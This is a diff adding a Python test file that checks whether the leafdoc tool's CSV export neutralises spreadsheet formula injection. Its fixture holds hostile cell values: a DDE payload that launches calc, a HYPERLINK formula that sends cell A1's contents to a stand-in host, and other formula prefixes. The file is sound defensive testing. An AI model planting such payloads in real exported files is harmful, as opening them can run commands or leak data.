@@ -1,0 +1,54 @@
+"""The table of answers the desktop app saves and `leafdoc predict --csv` writes (words/answer_table.py): cells a
+spreadsheet would run as formulas are text. The desktop app wrote them as they came, and it may be pointed at any
+server: an answer's message `=HYPERLINK(...)` or `@SUM(...)` ran when the saved history was opened."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import datetime
+
+from leafdoc.words.answer_table import FIELDS, answer_row, table_csv
+
+HOSTILE = {
+    "label": "+cmd|' /C calc'!A0",
+    "confidence": 0.5,
+    "abstained": True,
+    "reason": "unsure",
+    "message": '=HYPERLINK("http://example.invalid/?"&A1, "click")',
+    "top_k": [{"label": "-2+3", "probability": 0.5}],
+    "crop_given": "@SUM(1)",
+    "model_version": 3,
+}
+
+
+def read(text: str) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_every_cell_a_spreadsheet_would_run_is_text():
+    (row,) = read(table_csv([answer_row(HOSTILE, "/photos/\tleaf.jpg", datetime(2026, 12, 2, 9, 30))]))
+    assert row["message"] == "'" + HOSTILE["message"] and row["diagnosis"] == "'" + HOSTILE["label"]
+    assert row["crop_given"] == "'@SUM(1)" and row["top_k"] == "'-2+3=0.5000" and row["file"] == "'\tleaf.jpg"
+    said = (row["time"], row["abstained"], row["reason"], row["model_version"])
+    assert said == ("2026-12-02T09:30:00", "yes", "unsure", "3")
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
+
+
+def test_an_ordinary_answer_and_an_unread_photo_are_written_as_they_are():
+    top = [
+        {"label": "Tomato___Early_blight", "probability": 0.98765},
+        {"label": "Tomato___Late_blight", "probability": 0.01},
+    ]
+    answered = {"label": "Tomato___Early_blight", "confidence": 0.98765, "abstained": False, "top_k": top}
+    unread = {"file": "b.jpg", "error": "truncated"}
+    first, second = read(table_csv([answer_row(answered, "a.jpg"), answer_row(unread, "b.jpg")]))
+    assert list(first) == FIELDS
+    assert (first["diagnosis"], first["confidence"], first["abstained"]) == ("Tomato___Early_blight", "0.9877", "no")
+    assert first["top_k"] == "Tomato___Early_blight=0.9877; Tomato___Late_blight=0.0100"
+    assert (second["file"], second["reason"], second["message"], second["diagnosis"]) == (
+        "b.jpg",
+        "error",
+        "truncated",
+        "",
+    )
